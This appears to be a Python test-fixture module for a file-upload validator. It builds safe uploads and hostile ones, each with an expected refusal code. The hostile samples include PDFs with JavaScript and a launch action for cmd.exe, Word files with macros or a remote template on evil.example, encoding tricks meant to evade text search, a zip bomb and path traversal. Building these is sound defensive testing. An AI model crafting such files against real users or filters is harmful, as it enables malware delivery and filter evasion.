"""Files as people upload them, good ones and hostile ones, made from nothing."""

import io
import zipfile
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
OUTSIDE_TEMPLATE = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

MACRO_TYPES = CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")
LINK = OUTSIDE_TEMPLATE.replace("attachedTemplate", "hyperlink")
LIBREOFFICE_EVENT = (
    '<o xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    '<script:event-listener script:event-name="dom:load"/></o>'
)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """As a form gives it; the type that the sender claims is never believed."""
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def pdf(**root: Any) -> bytes:
    """A PDF of one empty page; `root` goes into its catalogue."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        for key, value in root.items():
            document.Root[f"/{key}"] = document.make_indirect(value)
        return saved(document)


def saved(document: Any, **options: Any) -> bytes:
    output = io.BytesIO()
    document.save(output, **options)
    return output.getvalue()


def pdf_with_attachment() -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        document.attachments["payload.exe"] = b"MZ"
        return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_link(action: dict[str, Any]) -> bytes:
    """A PDF with a link on its page that does `action`, packed so that its text cannot be searched for it."""
    with pikepdf.new() as document:
        page = document.add_blank_page(page_size=(100, 100))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 10, 10],
            A=pikepdf.Dictionary(action),
        )
        page.Annots = document.make_indirect(pikepdf.Array([link]))
        return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked_pdf() -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        return saved(document, encryption=pikepdf.Encryption(owner="a", user="b"))


def picture(name: str = "PNG", size: tuple[int, int] = (20, 10), **options: Any) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, "navy").save(output, name, **options)
    return output.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that tells where it was taken, with a web page behind the picture."""
    exif = Image.Exif()
    exif[0x010E] = "GEHEIMEPLEK"
    return picture("JPEG", exif=exif) + b"<script>alert(1)</script>"


def archive(parts: dict[str, bytes | str]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return output.getvalue()


def docx(**extra: bytes | str) -> bytes:
    """A Word document; `extra` parts are named with __ for / and _dot_ for a dot."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<document/>"}
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in extra.items()}
    return archive(parts | named)


def open_document(kind: str, **extra: bytes | str) -> bytes:
    parts = {"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<office/>"}
    return archive(parts | {name.replace("__", "/"): content for name, content in extra.items()})


def in_utf_16(xml: str) -> bytes:
    """The same XML in an encoding in which a search for its words finds nothing."""
    return f'<?xml version="1.0" encoding="UTF-16"?>{xml}'.encode("utf-16")


def xlsx() -> bytes:
    output = io.BytesIO()
    Workbook().save(output)
    return output.getvalue()


def bomb() -> bytes:
    """A Word document of 100 kB that unpacks to 90 MB."""
    return docx(word__media__a_dot_xml=b"0" * (90 * 1024 * 1024))


GOOD = {
    "gids.pdf": (pdf, "application/pdf"),
    "link.pdf": (
        lambda: pdf_with_link({"/S": pikepdf.Name.URI, "/URI": "https://juinen.example"}),
        "application/pdf",
    ),
    "foto.jpg": (lambda: picture("JPEG"), "image/jpeg"),
    "foto.JPEG": (lambda: picture("JPEG"), "image/jpeg"),
    "kaart.png": (picture, "image/png"),
    "brief.docx": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "link.docx": (
        lambda: docx(word___rels__document_dot_xml_dot_rels=LINK),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "lijst.xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "brief.odt": (lambda: open_document("text"), "application/vnd.oasis.opendocument.text"),
    "lijst.ods": (lambda: open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    "lees.txt": (lambda: "Één stembureau".encode("cp1252"), "text/plain"),
}
_JAVASCRIPT = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}
# Name and content -> the code of the refusal.
BAD = {
    "empty": ("leeg.pdf", lambda: b"", "empty"),
    "program": ("foto.exe", lambda: b"MZ\x90", "type"),
    "page": ("pagina.html", lambda: b"<script>alert(1)</script>", "type"),
    "drawing": ("logo.svg", lambda: b"<svg onload='alert(1)'/>", "type"),
    "no suffix": ("bestand", pdf, "type"),
    "two suffixes": ("brief.pdf.exe", pdf, "type"),
    "program called pdf": ("brief.pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 90, "type"),
    "page called pdf": ("brief.pdf", lambda: b"<!doctype html><script>alert(1)</script>", "not_what_it_says"),
    "pdf called png": ("kaart.png", pdf, "not_what_it_says"),
    "docx called xlsx": ("lijst.xlsx", docx, "not_what_it_says"),
    "plain zip": ("brief.docx", lambda: archive({"a.exe": b"MZ"}), "type"),
    "broken picture": ("foto.jpg", lambda: picture("JPEG")[:300], "broken"),
    "huge picture": ("kaart.png", lambda: picture(size=(8_000, 5_001)), "pixels"),
    "broken pdf": ("gids.pdf", lambda: pdf()[:-40], "broken"),
    "locked pdf": ("gids.pdf", locked_pdf, "password"),
    "javascript at opening": (
        "gids.pdf",
        lambda: pdf(OpenAction=pikepdf.Dictionary(_JAVASCRIPT)),
        "active_pdf",
    ),
    "javascript in a link": ("gids.pdf", lambda: pdf_with_link(_JAVASCRIPT), "active_pdf"),
    "launch": ("gids.pdf", lambda: pdf_with_link({"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}), "active_pdf"),
    "remote pdf": (
        "gids.pdf",
        lambda: pdf_with_link({"/S": pikepdf.Name.GoToR, "/F": "x.pdf"}),
        "active_pdf",
    ),
    "form that sends": ("gids.pdf", lambda: pdf_with_link({"/S": pikepdf.Name.SubmitForm}), "active_pdf"),
    "link at opening": (
        "gids.pdf",
        lambda: pdf(OpenAction=pikepdf.Dictionary({"/S": pikepdf.Name.URI, "/URI": "https://evil.example"})),
        "active_pdf",
    ),
    "xfa": ("gids.pdf", lambda: pdf(AcroForm=pikepdf.Dictionary(XFA="<xdp/>")), "active_pdf"),
    "attachment": ("gids.pdf", pdf_with_attachment, "active_pdf"),
    "macro": ("brief.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "macros"),
    "macro type": (
        "brief.docx",
        lambda: archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": "", "word/m.bin": "x"}),
        "macros",
    ),
    "macro type in other letters": (
        "brief.docx",
        lambda: archive({"[Content_Types].xml": in_utf_16(MACRO_TYPES), "word/document.xml": "<d/>"}),
        "macros",
    ),
    "control": ("brief.docx", lambda: docx(word__activeX__activeX1_dot_xml="x"), "macros"),
    "packed object": ("brief.docx", lambda: docx(word__embeddings__oleObject1_dot_bin=b"x"), "macros"),
    "excel 4 macro": ("lijst.xlsx", lambda: docx(xl__macrosheets__sheet1_dot_xml="x"), "macros"),
    "template from elsewhere": (
        "brief.docx",
        lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE),
        "macros",
    ),
    "template in single quotes": (
        "brief.docx",
        lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace('"', "'")),
        "macros",
    ),
    "template in other letters": (
        "brief.docx",
        lambda: docx(word___rels__settings_dot_xml_dot_rels=in_utf_16(OUTSIDE_TEMPLATE)),
        "macros",
    ),
    "template with an entity": (
        "brief.docx",
        lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace("Ext", "E&#120;t")),
        "macros",
    ),
    "picture from elsewhere": (
        "brief.docx",
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace("attachedTemplate", "image")
        ),
        "macros",
    ),
    "relations with a doctype": (
        "brief.docx",
        lambda: docx(word___rels__settings_dot_xml_dot_rels=f"<!DOCTYPE r []>{OUTSIDE_TEMPLATE}"),
        "broken",
    ),
    "libreoffice event": (
        "brief.odt",
        lambda: open_document("text", **{"content.xml": LIBREOFFICE_EVENT}),
        "macros",
    ),
    "libreoffice macro": ("brief.odt", lambda: open_document("text", Basic__Standard__a="x"), "macros"),
    "libreoffice drawing": ("brief.odt", lambda: open_document("graphics"), "type"),
    "path in zip": ("brief.docx", lambda: archive({"[Content_Types].xml": "", "../../x": ""}), "broken"),
    "bomb": ("brief.docx", bomb, "bomb"),
    "many parts": ("brief.docx", lambda: archive({f"{number}": "" for number in range(2_001)}), "bomb"),
    "old word": ("brief.docx", lambda: bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 600, "old_office"),
    "locked word": (
        "brief.docx",
        lambda: bytes.fromhex("D0CF11E0A1B11AE1") + "EncryptedPackage".encode("utf-16-le"),
        "password",
    ),
    "text with nul": ("lees.txt", lambda: b"a\x00b", "type"),
}
